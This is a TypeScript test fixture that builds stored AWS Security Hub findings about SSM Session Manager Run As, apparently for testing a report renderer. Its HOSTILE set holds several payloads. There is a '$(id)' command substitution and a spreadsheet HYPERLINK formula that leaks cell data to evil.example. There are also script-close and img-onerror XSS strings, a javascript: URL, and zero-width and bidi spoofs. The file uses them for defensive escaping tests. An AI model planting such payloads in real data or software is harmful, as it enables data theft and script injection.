/** Stored findings for the report tests: as the local Security Hub keeps them, with hostile values on demand. */
import type { ReportFinding, ReportInput } from '../../../src/report/reportInput.ts';

export const ACCOUNT = '111122223333';
export const TYPE =
  'Software and Configuration Checks/AWS Security Best Practices/SSM Session Manager Run As';
const PRODUCT_ARN = `arn:aws:securityhub:us-east-1:${ACCOUNT}:product/${ACCOUNT}/default`;
const GUIDE = 'https://docs.aws.amazon.com/systems-manager/latest/userguide/session-preferences-run-as.html';

/** Values an attacker controls through tags, documents and session names. */
export const HOSTILE = {
  commandSubstitution: '"$(id)"',
  zeroWidth: 'ad\u200bmin',
  bidi: 'evil\u202etxt.exe',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  scriptClose: '</script><script>window.__pwned = 1</script>',
  tag: '<img src=x onerror="window.__pwned = 1">',
} as const;

export type Stored = ReportFinding & Record<string, unknown>;

interface SessionOptions {
  readonly sessionId?: string;
  readonly outcome?: string;
  readonly severity?: string;
  readonly compliance?: string;
  readonly time?: string;
  readonly principal?: string;
  readonly target?: string;
  readonly fields?: Record<string, string>;
}

/** A `session` finding as stored: what the auditor sent plus Security Hub's Workflow fields. */
export const sessionFinding = (options: SessionOptions = {}): Stored => {
  const sessionId = options.sessionId ?? 'alice-0a1b2c3d4e5f6a7b8';
  const time = options.time ?? '2026-03-01T12:00:00.000Z';
  const principal = options.principal ?? `arn:aws:iam::${ACCOUNT}:user/alice`;
  const target = options.target ?? 'i-0123456789abcdef0';
  const severity = { Label: options.severity ?? 'HIGH', Original: options.outcome ?? 'RAN_AS_SSM_USER' };
  return {
    SchemaVersion: '2018-10-08',
    Id: `${ACCOUNT}/us-east-1/ssm-runas/session/${sessionId}`,
    ProductArn: PRODUCT_ARN,
    GeneratorId: 'ssm-runas-auditor/session',
    AwsAccountId: ACCOUNT,
    Region: 'us-east-1',
    Types: [TYPE],
    CreatedAt: time,
    UpdatedAt: time,
    FirstObservedAt: time,
    LastObservedAt: time,
    Severity: severity,
    Title: `Session ran as ssm-user (passwordless sudo) on ${target} by user alice`,
    Description:
      'Node i-0123456789abcdef0 runs Linux. Document SSM-SessionManagerRunShell: runAsEnabled false, so Run As is off. Fix: Set runAsEnabled to true.',
    Remediation: { Recommendation: { Text: 'Set runAsEnabled to true.', Url: GUIDE } },
    ProductFields: {
      'RunAs/Check': 'session',
      'RunAs/Outcome': options.outcome ?? 'RAN_AS_SSM_USER',
      'RunAs/ExpectedUser': 'ssm-user',
      'RunAs/ExpectedUserSource': 'none',
      'RunAs/SessionUser': 'ssm-user',
      'RunAs/SessionId': sessionId,
      'RunAs/Principal': principal,
      'RunAs/Target': target,
      'RunAs/Document': 'SSM-SessionManagerRunShell',
      'RunAs/Platform': 'Linux',
      'RunAs/UserVerified': 'false',
      'RunAs/SessionTags': 'none',
      'RunAs/EventId': '6f1c2a3b-4d5e-4f60-8a7b-9c0d1e2f3a4b',
      ...options.fields,
    },
    Resources: [
      {
        Type: 'Other',
        Id: `arn:aws:ssm:us-east-1:${ACCOUNT}:session/${sessionId}`,
        Partition: 'aws',
        Region: 'us-east-1',
      },
      {
        Type: 'AwsEc2Instance',
        Id: `arn:aws:ec2:us-east-1:${ACCOUNT}:instance/${target}`,
        Partition: 'aws',
        Region: 'us-east-1',
      },
      { Type: 'AwsIamUser', Id: principal, Partition: 'aws', Region: 'us-east-1' },
    ],
    Compliance: { Status: options.compliance ?? 'FAILED' },
    RecordState: 'ACTIVE',
    FindingProviderFields: { Severity: severity, Types: [TYPE] },
    Workflow: { Status: 'NEW' },
    WorkflowState: 'NEW',
  };
};

/** A `principal` posture finding, updated after it was created. */
export const principalFinding = (overrides: Record<string, unknown> = {}): Stored => {
  const principal = `arn:aws:iam::${ACCOUNT}:user/sam`;
  const severity = { Label: 'MEDIUM', Original: 'MISSING_RUN_AS_USER' };
  return {
    SchemaVersion: '2018-10-08',
    Id: `${ACCOUNT}/us-east-1/ssm-runas/principal/${principal}`,
    ProductArn: PRODUCT_ARN,
    GeneratorId: 'ssm-runas-auditor/principal',
    AwsAccountId: ACCOUNT,
    Region: 'us-east-1',
    Types: [TYPE],
    CreatedAt: '2026-03-01T13:00:00.000Z',
    UpdatedAt: '2026-03-01T14:00:00.000Z',
    FirstObservedAt: '2026-03-01T13:00:00.000Z',
    LastObservedAt: '2026-03-01T14:00:00.000Z',
    Severity: severity,
    Title: 'User sam maps to sam in us-east-1, which is missing on 4 nodes',
    Description:
      'IAM user sam has SSMSessionRunAs="sam". "sam" is missing on 4 of 6 nodes. Fix: Create "sam" on the nodes.',
    Remediation: { Recommendation: { Text: 'Create "sam" on the nodes.', Url: GUIDE } },
    ProductFields: {
      'RunAs/Check': 'principal',
      'RunAs/Outcome': 'MISSING_RUN_AS_USER',
      'RunAs/ExpectedUser': 'sam',
      'RunAs/ExpectedUserSource': 'principal-tag',
      'RunAs/Principal': principal,
      'RunAs/PrincipalType': 'user',
      'RunAs/PrincipalName': 'sam',
      'RunAs/Document': 'SSM-SessionManagerRunShell',
      'RunAs/NodesMissingUser': '4',
      'RunAs/NodesChecked': '6',
      'RunAs/ChangeEvent': 'TagUser',
      'RunAs/EventId': '983f33d2-5ef7-466a-a583-cce0dd47877c',
    },
    Resources: [
      { Type: 'AwsIamUser', Id: principal, Partition: 'aws', Region: 'us-east-1' },
      {
        Type: 'Other',
        Id: `arn:aws:ssm:us-east-1:${ACCOUNT}:document/SSM-SessionManagerRunShell`,
        Partition: 'aws',
        Region: 'us-east-1',
      },
    ],
    Compliance: { Status: 'FAILED' },
    RecordState: 'ACTIVE',
    FindingProviderFields: { Severity: severity, Types: [TYPE] },
    Workflow: { Status: 'NEW' },
    WorkflowState: 'NEW',
    ...overrides,
  };
};

/** A finding whose every free-text value is hostile (as a forged or foreign stored finding could be). */
export const hostileFinding = (): Stored => {
  const base = sessionFinding({
    sessionId: 'mallory-0ffffffffffffffff',
    principal: `arn:aws:iam::${ACCOUNT}:user/${HOSTILE.zeroWidth}`,
    fields: {
      'RunAs/ExpectedUser': HOSTILE.commandSubstitution,
      'RunAs/SessionUser': HOSTILE.formula,
      'RunAs/Document': HOSTILE.scriptClose,
      'RunAs/Target': HOSTILE.tag,
      'RunAs/Platform': HOSTILE.bidi,
      'RunAs/Zz-Extra': HOSTILE.formula,
    },
  });
  return {
    ...base,
    Title: `Session by ${HOSTILE.scriptClose} ${HOSTILE.tag}`,
    Description: `Document ${HOSTILE.scriptClose} sets ${HOSTILE.commandSubstitution}. User ${HOSTILE.zeroWidth}. Fix: ${HOSTILE.formula}`,
    Remediation: { Recommendation: { Text: HOSTILE.formula, Url: 'javascript:window.__pwned=1' } },
  };
};

export const input = (...findings: Stored[]): ReportInput => ({
  evaluations: findings.map((f) => ({
    event: `${f.Id}.json`,
    runs: [{ logicalId: 'AuditSessionFunction' }],
  })),
  findings,
});
